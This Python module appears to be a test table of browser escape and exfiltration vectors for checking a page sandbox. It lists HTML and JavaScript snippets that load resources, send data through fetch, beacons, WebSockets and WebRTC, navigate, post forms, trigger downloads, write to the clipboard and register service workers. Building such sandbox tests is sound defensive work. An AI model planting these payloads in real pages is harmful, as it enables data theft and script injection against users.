"""What a page can try: a table of programs that run in it, each with the sign by which its success would show.

They run with all that JavaScript in the page may do, so they stand for the worst: an output that got a script to run.
``url`` is an address elsewhere, ``datagrams`` a port there; ``main`` is an element of the page; ``planted`` are
addresses at which the server may hand out a script that a kernel has written.
"""

from dataclasses import dataclass
from enum import Enum


class Sign(Enum):
    """What success looks like."""

    ARRIVES = "something is heard elsewhere"
    DOWNLOADS = "a file is saved, or the browser asks where to"
    OPENS = "a window opens"
    TRUE = "the program says so"


@dataclass(frozen=True)
class PageAttack:
    """One way. ``leaves``: it takes the page away, so that it needs one of its own."""

    name: str
    sign: Sign
    script: str
    leaves: bool = False


def _html(name: str, html: str, sign: Sign = Sign.ARRIVES, *, leaves: bool = False) -> PageAttack:
    return PageAttack(name, sign, f"main.insertAdjacentHTML('beforeend', `{html}`)", leaves)


def _script(name: str, script: str, sign: Sign = Sign.ARRIVES, *, leaves: bool = False) -> PageAttack:
    return PageAttack(name, sign, script, leaves)


def _clicked(name: str, html: str, sign: Sign, *, leaves: bool = True) -> PageAttack:
    script = f"main.insertAdjacentHTML('beforeend', `{html}`); main.lastElementChild.click()"
    return PageAttack(name, sign, script, leaves)


_BLOB = "URL.createObjectURL(new Blob([`{}`], {{type: '{}'}}))"
_FETCH = "fetch('${url}', {mode: 'no-cors'})"
_IMPORT = "importScripts('${url}')"
_IMAGE = "<img src=${url}>"

LOADS = (
    _html("image", _IMAGE),
    _html("image-srcset", "<img srcset='${url} 1x'>"),
    _html("picture", "<picture><source srcset=${url}><img></picture>"),
    _html("video", "<video src=${url} preload=auto></video>"),
    _html("video-poster", "<video poster=${url}></video>"),
    _html("audio", "<audio src=${url} preload=auto></audio>"),
    _html("object", "<object data=${url} type=text/html></object>"),
    _html("embed", "<embed src=${url} type=text/html>"),
    _html("image-button", "<input type=image src=${url}>"),
    _html("body-background", "<table background=${url}><tr><td>x</table>"),
    _html("stylesheet", "<link rel=stylesheet href=${url}>"),
    _html("css-import", "<style>@import '${url}'</style>"),
    _html("css-url", "<p style='background: url(${url})'>x</p>"),
    _html("css-image-set", "<p style='background: image-set(\"${url}\" 1x)'>x</p>"),
    _html("css-list-image", "<ul><li style='list-style-image: url(${url})'>x</ul>"),
    _html("css-cursor-mask", "<p style='mask-image: url(${url}); border-image-source: url(${url})'>x</p>"),
    _html("css-font", "<style>@font-face {font-family: out; src: url(${url})}</style>"
          "<p style='font-family: out'>x</p>"),
    _html("svg-image", "<svg><image href=${url} width=9 height=9 /></svg>"),
    _html("svg-xlink-image", "<svg><image xlink:href=${url} width=9 height=9 /></svg>"),
    _html("svg-fe-image", "<svg><filter id=f><feImage href=${url} /></filter>"
          "<rect width=9 height=9 filter='url(#f)' /></svg>"),
    _html("svg-foreign-object", f"<svg><foreignObject width=9 height=9>{_IMAGE}</foreignObject></svg>"),
    _html("prefetch", "<link rel=prefetch href=${url}>"),
    _html("preload", "<link rel=preload as=image href=${url}>"),
    _html("module-preload", "<link rel=modulepreload href=${url}>"),
    _html("event-attribute", "<img src='data:,' onerror=\"new Image().src='${url}'\">"),
    _html("frame", "<iframe src=${url}></iframe>"),
    _html("frame-srcdoc", f"<iframe srcdoc='{_IMAGE}'></iframe>"),
    _html("frame-data", f"<iframe src='data:text/html,{_IMAGE}'></iframe>"),
    _html("frame-javascript", "<iframe src=\"javascript:parent.fetch('${url}', {mode: 'no-cors'})\"></iframe>"),
    _script("frame-blob", f"const f = document.createElement('iframe'); f.src = {_BLOB.format(_IMAGE, 'text/html')};"
            "main.append(f)"),
    _script("frame-fresh-realm", "const f = document.createElement('iframe'); main.append(f);"
            "f.contentWindow.fetch(url, {mode: 'no-cors'})"),
    _script("script", "const s = document.createElement('script'); s.src = url; main.append(s)"),
    _script("inline-script", f"const s = document.createElement('script'); s.textContent = `{_FETCH}`; main.append(s)"),
    _script("svg-script", "main.insertAdjacentHTML('beforeend', '<svg></svg>');"
            "const s = document.createElementNS('http://www.w3.org/2000/svg', 'script');"
            f"s.textContent = `{_FETCH}`; main.lastElementChild.append(s)"),
    _script("module", "import(url)"),
    _script("base-tag", "const b = document.createElement('base'); b.href = url; document.head.append(b);"
            "main.insertAdjacentHTML('beforeend', '<img src=relative.png>')", leaves=True),
)  # fmt: skip

SENDS = (
    _script("fetch", "fetch(url, {mode: 'no-cors'})"),
    _script("fetch-keepalive", "fetch(url, {mode: 'no-cors', keepalive: true, method: 'POST', body: 'x'})"),
    _script("xhr", "const r = new XMLHttpRequest(); r.open('POST', url); r.send('x')"),
    _script("event-source", "new EventSource(url)"),
    _script("websocket", "new WebSocket(url.replace('http', 'ws'))"),
    _script("beacon", "navigator.sendBeacon(url, 'x')"),
    _script("worker-fetch", f"new Worker({_BLOB.format(_FETCH, 'text/javascript')})"),
    _script("worker-import", f"new Worker({_BLOB.format(_IMPORT, 'text/javascript')})"),
    _script("shared-worker", f"new SharedWorker({_BLOB.format(_FETCH, 'text/javascript')})"),
    _script("webrtc-stun", "window.a = new RTCPeerConnection({iceServers: [{urls: `stun:127.0.0.1:${datagrams}`}]});"
            "a.createDataChannel('x'); a.createOffer().then(o => a.setLocalDescription(o))"),
    _script("webrtc-turn", "window.b = new RTCPeerConnection({iceServers: [{urls: `turn:127.0.0.1:${datagrams}`,"
            "username: 'secret', credential: 'x'}]}); b.createDataChannel('x');"
            "b.createOffer().then(o => b.setLocalDescription(o))"),
    _script("webrtc-fresh-realm", "const f = document.createElement('iframe'); main.append(f);"
            "window.c = new f.contentWindow.RTCPeerConnection({iceServers: [{urls: `stun:127.0.0.1:${datagrams}`}]});"
            "c.createDataChannel('x'); c.createOffer().then(o => c.setLocalDescription(o))"),
    _clicked("link-ping", "<a href='#here' ping=${url}>x</a>", Sign.ARRIVES, leaves=False),
)  # fmt: skip

LEAVES = (
    _script("location", "location.href = url", leaves=True),
    _script("location-replace", "location.replace(url)", leaves=True),
    _script("navigation-api", "navigation.navigate(url)", leaves=True),
    _html("meta-refresh", "<meta http-equiv=refresh content='0;url=${url}'>", leaves=True),
    _clicked("link", "<a href=${url}>x</a>", Sign.ARRIVES),
    _clicked("svg-link", "<a href=${url}><svg width=9 height=9></svg></a>", Sign.ARRIVES),
    _clicked("area", "<area href=${url}>", Sign.ARRIVES),
    _clicked("link-javascript", "<a href=\"javascript:fetch('${url}', {mode: 'no-cors'})\">x</a>", Sign.ARRIVES),
    _clicked("link-new-window", "<a href=${url} target=_blank>x</a>", Sign.ARRIVES),
    _script("window-open", "window.open(url)", leaves=True),
    _script("window-open-no-opener", "window.open(url, '_blank', 'noopener')", leaves=True),
    *(
        _script(f"form-{name}", "main.insertAdjacentHTML('beforeend', "
                f"`<form {words}><input name=d value=x><button {more}>x</button></form>`);"
                "main.querySelector('button').click()",
                leaves=True)
        for name, words, more in (
            ("get", "action=${url}", ""), ("post", "action=${url} method=post", ""),
            ("new-window", "action=${url} method=post target=_blank", ""),
            ("button", "", "formaction=${url} formmethod=post"),
        )
    ),
)  # fmt: skip

SAVES = (
    _clicked("download-data", "<a download=a.csv href='data:text/csv,x'>x</a>", Sign.DOWNLOADS),
    _script("download-blob", f"const a = document.createElement('a'); a.href = {_BLOB.format('x', 'text/csv')};"
            "a.download = 'b.csv'; main.append(a); a.click()", Sign.DOWNLOADS, leaves=True),
    _clicked("download-own-page", "<a download=c.html href=''>x</a>", Sign.DOWNLOADS),
    _clicked("download-new-window", "<a download=d.csv target=_blank href='data:text/csv,x'>x</a>", Sign.DOWNLOADS),
    _script("download-svg", "main.innerHTML = `<svg><a href='data:text/csv,x' download=e.csv><text>x</text>"
            "</a></svg>`; main.querySelector('a').dispatchEvent(new MouseEvent('click'))",
            Sign.DOWNLOADS, leaves=True),
    _script("navigate-to-blob", f"location.href = {_BLOB.format('x', 'application/octet-stream')}", Sign.DOWNLOADS,
            leaves=True),
    _script("frame-blob-download", "const f = document.createElement('iframe'); "
            f"f.src = {_BLOB.format('x', 'application/octet-stream')}; main.append(f)", Sign.DOWNLOADS, leaves=True),
    _script("window-open-blob", f"window.open({_BLOB.format('x', 'text/html')})", Sign.OPENS, leaves=True),
    _script("popup-blank", "window.open('about:blank')", Sign.OPENS, leaves=True),
    _script("clipboard", "return await navigator.clipboard.writeText('secret')"
            ".then(() => true, () => false)", Sign.TRUE),
    _script("clipboard-item", "return await navigator.clipboard.write([new ClipboardItem({'text/plain': 'secret'})])"
            ".then(() => true, () => false)", Sign.TRUE),
    *(
        _script(f"service-worker-{number}", f"return await navigator.serviceWorker.register(planted[{number}])"
                ".then(() => true, () => false)", Sign.TRUE)
        for number in range(3)
    ),
)  # fmt: skip

ATTACKS = (*LOADS, *SENDS, *LEAVES, *SAVES)
